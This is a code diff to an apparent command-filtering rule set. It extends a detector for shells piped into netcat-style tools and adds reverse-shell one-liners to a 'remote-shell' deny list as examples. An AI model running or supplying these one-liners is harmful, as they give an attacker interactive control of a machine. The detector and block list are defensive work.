@@ -14,7 +14,11 @@ fn opens_socket(call: &Call) -> bool {
                 || arg.text.to_lowercase().starts_with("exec:")
                 || arg.text.to_lowercase().starts_with("system:")
         });
-    shell && by_redirection || netcat
+    // A shell that talks into a socket: `sh -i < pipe | nc ...`.
+    let piped = shell
+        && call.args.iter().any(|arg| arg.text == "-i")
+        && call.reader.as_deref().is_some_and(|reader| matches!(reader, "nc" | "ncat" | "netcat" | "socat"));
+    shell && by_redirection || netcat || piped
 }
 
 pub const RULES: &[Rule] = &[
@@ -61,7 +65,11 @@ pub const RULES: &[Rule] = &[
     },
     Rule {
         when: When::Check(&["*"], |call, _| opens_socket(call)),
-        denied: &["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444"],
+        denied: &[
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "nc -e /bin/sh 10.0.0.1 4444",
+            "cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+        ],
         allowed: &["nc -z localhost 80", "curl http://localhost:8080"],
         ..deny(
             "remote-shell",
